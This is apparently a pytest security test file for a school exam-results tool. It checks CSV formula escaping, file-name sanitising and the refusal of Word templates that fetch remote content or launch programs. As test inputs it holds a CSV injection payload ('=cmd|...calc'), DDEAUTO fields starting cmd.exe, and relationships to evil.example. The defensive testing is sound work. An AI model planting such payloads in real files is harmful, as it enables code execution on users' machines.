"""Names, texts and templates that somebody chose in order to do harm; desks that a service copies; two programs at once."""

from __future__ import annotations

import csv
import re
import subprocess
import sys
import threading
from contextlib import nullcontext
from pathlib import Path
from zipfile import ZipFile

import pytest
from desks import DEMO, call, copy, fingerprints, new_desk, put
from hypothesis import given
from hypothesis import strategies as st

from results_desk.actions import vault as vault_action
from results_desk.edges.computer import secrets
from results_desk.edges.desk import lock
from results_desk.edges.desk.desk import Desk
from results_desk.edges.desk.received import keep_bytes
from results_desk.edges.desk.synced import seconds, service
from results_desk.edges.export import write_csv
from results_desk.edges.folders import shipped
from results_desk.edges.word.links import require_nothing_outside
from results_desk.errors import DeskError, Problem

STATEMENT = "statement_of_results"
SECRET = "four words of nothing"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return new_desk(tmp_path_factory.mktemp("made") / "desk")


@given(st.text())
def test_no_cell_of_a_csv_begins_as_a_formula(text: str) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.csv"
        write_csv(path, ["A"], [{"A": text}])
        rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for row in rows for cell in row)


def test_names_for_the_press_are_no_formulas(made: Path, tmp_path: Path) -> None:
    desk, who = copy(made, tmp_path), {"Candidate number": "0042"}
    put(desk, "Candidates", {**who, "Surname": "=cmd|'/c calc'!A1", "Forenames": "@SUM(1)"})
    result = {"Awarding body": "AQA", "Series": "June 2024", "Level": "GCSE", "Entry code": "8700", "Title": "+1", "Grade": "9"}
    put(desk, "Results", {**who, **result})
    put(desk, "Permissions", {**who, "Results day": "Level 1/2", "Publicity": "Name and grades"})
    assert call("confirm-dates", desk, "--given", "GCSE").code == 0
    assert call("export-results", desk, "press").code == 0
    text = (desk / "exports" / "press names.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]

    assert any("=cmd" in cell for cell in cells) and not any(cell.startswith(("=", "@", "+", "-")) for cell in cells)


NAMES = {
    "CON.csv": "C_ON.csv", "nul.csv": "n_ul.csv", "\u202evsc.results": "vsc.results", "a\x1b[2J.csv": "a[2J.csv", "..": "no name",
    "x" * 250 + ".csv": "x" * 120 + ".csv", 'a:b?.c"sv': "a-b-.csv", "June 2024 (1).csv": "June 2024 (1).csv",
    "R1234501.X01": "R1234501.X01",
}  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_received_file_is_kept_under_a_name_that_every_system_takes(name: str, tmp_path: Path) -> None:
    kept = keep_bytes(name, b"x", tmp_path / "received")

    assert (kept.name, kept.parent, keep_bytes(name, b"x", tmp_path / "received")) == (NAMES[name], tmp_path / "received", kept)


def test_a_message_shows_no_sign_that_turns_or_clears_the_screen(made: Path, tmp_path: Path) -> None:
    path = tmp_path / "a\u202e\x1b[2Jb.csv"
    path.write_text("nothing of ours")
    for words in ((), ("--json",)):
        said = call("import-results", made, path, *words)
        assert said.code == 3 and not re.search("[\u202e\x1b]", said.out + said.err) and "a[2Jb.csv" in said.out + said.err
    assert Problem("a\u202eb", 1, "", "x\x07", "y").public() == {"file": "ab", "row": 1, "column": "", "message": "x", "way_out": "y"}


def template(path: Path, part: str, old: bytes, new: bytes) -> Path:
    """The shipped statement with something put into one of its parts; a new part where it has none of that name."""
    with ZipFile(shipped("docx_templates") / f"{STATEMENT}.docx") as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    parts[part] = parts[part].replace(old, new + old, 1) if part in parts else new
    path.parent.mkdir(parents=True, exist_ok=True)
    with ZipFile(path, "w") as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return path


RELS, BODY = "word/_rels/document.xml.rels", "word/document.xml"
ENDS, END = b"</Relationships>", b"</w:body>"
HEADER = b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind: bytes) -> bytes:
    return b'<Relationship Id="z9" Type="' + KIND + kind + b'" Target="https://evil.example/x" TargetMode="External"/>'


def field(*pieces: bytes) -> bytes:
    return b"<w:p>" + b"".join(b"<w:r><w:instrText>" + piece + b"</w:instrText></w:r>" for piece in pieces) + b"</w:p>"


def fields(text: bytes) -> bytes:
    """A paragraph of fields as Word shows them with Alt+F9: { PAGE | 1 } has an instruction and a result."""
    marks = {b"{": b"begin", b"|": b"separate", b"}": b"end"}
    pieces = (piece for piece in re.split(rb"([{|}])", text) if piece)
    runs = (b'<w:fldChar w:fldCharType="' + marks[each] + b'"/>' if each in marks else b"<w:instrText>" + each + b"</w:instrText>"
            for each in pieces)  # fmt: skip
    return b"<w:p>" + b"".join(b"<w:r>" + run + b"</w:r>" for run in runs) + b"</w:p>"


def utf16(part: bytes) -> bytes:
    text = part.decode()
    return ('<?xml version="1.0" encoding="UTF-16"?>' + text[text.index("?>") + 2 :]).encode("utf-16")


TEMPLATES = {
    "a template from elsewhere": (RELS, b"</Relationships>", relation(b"attachedTemplate"), "from a place outside"),
    "a picture from elsewhere": (RELS, b"</Relationships>", relation(b"image"), "from a place outside"),
    "a program": (BODY, b"</w:body>", field(b' DDEAUTO c:\\cmd.exe "/k calc"'), "starts a program"),
    "a program in pieces": (BODY, b"</w:body>", field(b" DD", b"EAU", b"TO cmd"), "starts a program"),
    "another file": (BODY, b"</w:body>", b'<w:p><w:fldSimple w:instr=" INCLUDETEXT secret.docx "/></w:p>', "starts a program"),
    "macros": ("word/vbaProject.bin", b"", b"x", "holds macros"),
    "a picture, told in letters by number": (RELS, ENDS, relation(b"image").replace(b"External", b"&#69;xternal"), "from a place outside"),
    "a picture, with a > before it": (RELS, ENDS, relation(b"image").replace(b' Id="z9"', b' Id="z9>"'), "from a place outside"),
    "a picture that looks like a link": (RELS, ENDS, relation(b"image").replace(b"/x", b"/x?Type='/hyperlink'"), "from a place outside"),
    "a picture by an address alone": (RELS, ENDS, relation(b"image").replace(b' TargetMode="External"', b""), "from a place outside"),
    "a page of the web in it": (RELS, ENDS, b'<Relationship Id="z9" Type="' + KIND + b'aFChunk" Target="a.html"/>', "of another kind"),
    "macros under another name": (RELS, ENDS, b'<Relationship Id="z9" Type="' + KIND + b'vbaProject" Target="a.bin"/>', "holds macros"),
    "a list of entities": (RELS, b"<Relationships", b'<!DOCTYPE x [<!ENTITY e "External">]>', r"\(DTD\)"),
    "a page number, then another file": (BODY, END, fields(b'{ PAGE | 1}{ INCLUDETEXT "secret.docx" }'), "starts a program"),
    "a page number, then a program": (BODY, END, fields(b"{ PAGE }{ DDEAUTO cmd | x}"), "starts a program"),
    "a picture in a condition": (BODY, END, fields(b"{ IF 1 = 1 { INCLUDEPICTURE http://x } }"), "starts a program"),
    "a program after a condition": (BODY, END, fields(b"{ IF 1 = 1 { PAGE | 1} x}{DDE cmd}"), "starts a program"),
    "a program in letters by number": (BODY, END, fields(b"{ &#68;DEAUTO cmd }"), "starts a program"),
    "a program with a remark in it": (BODY, END, fields(b"{ DD<!-- x -->EAUTO cmd }"), "starts a program"),
    "a program that never ends": (BODY, END, fields(b"{ DDEAUTO cmd "), "starts a program"),
    "a program whose name a field makes": (BODY, END, fields(b"{ { QUOTE 68 68 69 | DDE} cmd }"), "nobody can tell"),
    "a program whose name a tag makes": (BODY, END, field(b" DD{{ surname }} cmd"), "nobody can tell"),
    "a program in a part of another name": ("word/header9.dat", b"", HEADER + fields(b"{ DDE x }") + b"</w:hdr>", "starts a program"),
    "a part that is cut short": ("word/header9.xml", b"", HEADER + fields(b"{ PAGE }"), "not a Word document"),
    "a picture by its address": (BODY, END, b'<w:p xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="https://x/y"/></w:p>', "outside"),
    "a calculation with a page number": (BODY, END, fields(b"{={ PAGE | 1}+1}{ IF { PAGE } = 1 x}{ HYPERLINK x }{ INCLUDED }"), ""),
    "a drawing with a document type": ("word/media/a.svg", b"", b'<!DOCTYPE svg PUBLIC "x" "http://x/y"><svg/>', ""),
    "a link to click": (RELS, b"</Relationships>", relation(b"hyperlink"), ""),
    "a page number": (BODY, b"</w:body>", field(b" PAGE "), ""),
}


@pytest.mark.parametrize("what", TEMPLATES)
def test_a_template_that_fetches_something_is_refused(what: str, tmp_path: Path) -> None:
    *change, says = TEMPLATES[what]
    path = template(tmp_path / "own.docx", *change)
    if says:
        with pytest.raises(DeskError, match=f"own.docx .*{says}.*open it in Word"):
            require_nothing_outside(path)
    else:
        require_nothing_outside(path)


def test_so_is_one_with_bytes_before_it_or_relationships_in_two_byte_letters(tmp_path: Path) -> None:
    path = template(tmp_path / "own.docx", *TEMPLATES["a picture from elsewhere"][:3])
    path.write_bytes(b"GIF89a" + path.read_bytes())
    with pytest.raises(DeskError, match="from a place outside"):
        require_nothing_outside(path)
    with ZipFile(path) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    with ZipFile(path, "w") as packed:
        for name, data in parts.items():
            packed.writestr(name, utf16(data) if name == RELS else data)
    with pytest.raises(DeskError, match="from a place outside"):
        require_nothing_outside(path)


def test_a_picture_does_not_come_by_a_link_to_click(tmp_path: Path) -> None:
    path = template(tmp_path / "link.docx", RELS, ENDS, relation(b"hyperlink"))
    with ZipFile(path) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    for tag, is_refused in ((b'<w:hyperlink r:id="z9"/>', False), (b'<w:blip r:link="z9"/>', True)):
        used = b'<w:p xmlns:r="' + KIND[:-1] + b'">' + tag + b"</w:p>"
        with ZipFile(path, "w") as packed:
            for name, data in parts.items():
                packed.writestr(name, data.replace(END, used + END) if name == BODY else data)
        with pytest.raises(DeskError, match="outside") if is_refused else nullcontext():
            require_nothing_outside(path)


def test_no_letter_that_comes_with_results_desk_is_refused() -> None:
    for path in sorted(shipped("docx_templates").glob("*.docx")):
        require_nothing_outside(path)


def test_nothing_is_written_with_such_a_template(tmp_path: Path) -> None:
    desk = new_desk(tmp_path / "desk")
    assert call("import-candidates", desk, DEMO / "candidates.csv").code in (0, 4)
    template(desk / "letters" / "templates" / "candidate_permission_form.docx", *TEMPLATES["a template from elsewhere"][:3])
    before = fingerprints(desk)
    said = call("write-letters", desk, "candidate_permission_form")

    assert said.code == 3 and "outside the file" in said.err and fingerprints(desk) == before


@pytest.mark.parametrize(
    ("folder", "environment", "said"),
    [
        ("OneDrive - Larkfield/exams/desk", {}, "OneDrive"),
        ("Larkfield SharePoint/desk", {}, ""),
        ("SharePoint - Exams/desk", {}, "SharePoint"),
        ("Library/CloudStorage/OneDrive-Larkfield/desk", {}, "OneDrive"),
        ("Dropbox/desk", {}, "Dropbox"),
        ("work/desk", {"OneDriveCommercial": "work"}, "OneDrive"),
        ("work/OneDrive", {}, ""),
        ("Hill School/Exams - Documents/desk", {}, "SharePoint"),
        ("Hill School/Exams - Documents", {}, "SharePoint"),
        ("Hill School/desk", {}, ""),
        ("Moor School/Exams - Documents/desk", {}, ""),
        ("Moor School/Exams - Documents/desk", {"OneDriveCommercial": "OneDrive - Moor School"}, "SharePoint"),
        ("My Drive/exams/desk", {}, "Google Drive"),
        ("My Drive (sam@example.com)/desk", {}, "Google Drive"),
        ("Shared drives/Exams/desk", {}, "Google Drive"),
        ("exams/My Drive", {}, ""),
        ("exams/desk", {"OneDrive": ""}, ""),
    ],
)
def test_what_copies_a_desk(folder: str, environment: dict[str, str], said: str, tmp_path: Path) -> None:
    (tmp_path / folder).mkdir(parents=True)
    (tmp_path / "OneDrive - Hill School").mkdir()
    roots = {name: str(tmp_path / root) if root else "" for name, root in environment.items()}

    assert service(tmp_path / folder, roots) == said


SECONDS = {
    "results-LAPTOP-7.xlsx": "results.xlsx", "results-PC-2.xlsx": "results.xlsx", "results-Sam's MacBook Pro.xlsx": "results.xlsx",
    "results-Sam\u2019s Air.xlsx": "results.xlsx", "results (1).xlsx": "results.xlsx", "results 2.xlsx": "results.xlsx",
    "tracking_log (Zoe's conflicted copy).xlsx": "tracking_log.xlsx", "results.sync-conflict-20240815-1200-ABC.xlsx": "results.xlsx",
    "mail_ledger-PC2.jsonl": "mail_ledger.jsonl", "mail_ledger (conflicted copy 2024-08-15).jsonl": "mail_ledger.jsonl",
    "audit-PC2.log": "audit.log", "audit 2.head": "audit.head",
}  # fmt: skip
ORDINARY = (
    "results.xlsx", "results_day_checklist.xlsx", "my-own.xlsx", "results backup.xlsx", "results 2024.xlsx", "results2.xlsx", "results.csv",
    "results-PC2.csv", "results (governors).xlsx", "results - for the head.xlsx", "mail_ledger.jsonl", "audit.log", "audit.head",
)  # fmt: skip


def test_second_versions_are_known_by_the_names_that_services_give(tmp_path: Path) -> None:
    for name in (*SECONDS, *ORDINARY):
        (tmp_path / name).touch()

    assert dict(seconds(tmp_path, ("results.xlsx", "results_day_checklist.xlsx", "tracking_log.xlsx"))) == SECONDS


def test_a_desk_that_is_copied_elsewhere_says_so(made: Path, tmp_path: Path) -> None:
    desk = copy(made, tmp_path / "OneDrive - Larkfield")
    (desk / "results-LAPTOP7.xlsx").touch()
    said = call("import-candidates", desk, DEMO / "candidates.csv", "--json").json

    assert "OneDrive copies this desk: nobody should work in results.xlsx" in said["message"]
    assert [each["file"] for each in said["problems"] if "second version" in each["message"]] == ["results-LAPTOP7.xlsx"]
    assert "copies this desk" not in call("import-candidates", made, DEMO / "candidates.csv").out


HOLD = "import sys; from filelock import FileLock\nwith FileLock(sys.argv[1]):\n    print('held', flush=True)\n    sys.stdin.read()"


def test_of_two_programs_on_a_desk_the_second_waits_or_stops_with_a_sentence(
    made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # fmt: skip
    desk = copy(made, tmp_path)
    other = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(desk / ".results-desk.lock")], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert other.stdin and other.stdout and other.stdout.readline() == "held\n"
    before = fingerprints(desk)
    monkeypatch.setattr(lock, "WAIT_SECONDS", 0.2)
    said = call("import-candidates", desk, DEMO / "candidates.csv")
    assert said.code == 3 and "Another action is running on the desk desk: wait" in said.err and fingerprints(desk) == before
    monkeypatch.setattr(lock, "WAIT_SECONDS", 20)
    threading.Timer(0.3, other.stdin.close).start()
    assert call("import-candidates", desk, DEMO / "candidates.csv").code in (0, 4)
    assert other.wait(10) == 0


def test_a_password_stands_in_no_log_of_a_fault(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    desk = copy(made, tmp_path)
    secrets.keep(Desk(desk).settings["Desk ID"], SECRET)

    def failing(path: Path, secret: str) -> bool:
        raise RuntimeError(f"{path} {secret}")

    monkeypatch.setattr("results_desk.edges.desk.vault.seal", failing)
    monkeypatch.setattr("results_desk.edges.computer.places.Places.own", tmp_path / "app")
    said = call("lock", desk, "--json")
    logs = [path.read_text(encoding="utf-8") for path in (tmp_path / "app").rglob("*.log")]

    assert said.code == 1 and len(logs) == 1 and "RuntimeError" in logs[0]
    assert SECRET not in said.out + said.err + logs[0] + (desk / "audit.log").read_text(encoding="utf-8")
    assert not {"password", "secret"} & {question.name for question in vault_action_questions()}


def vault_action_questions() -> list[object]:
    from results_desk.actions.questions import questions

    return [*questions(vault_action.lock), *questions(vault_action.unlock)]
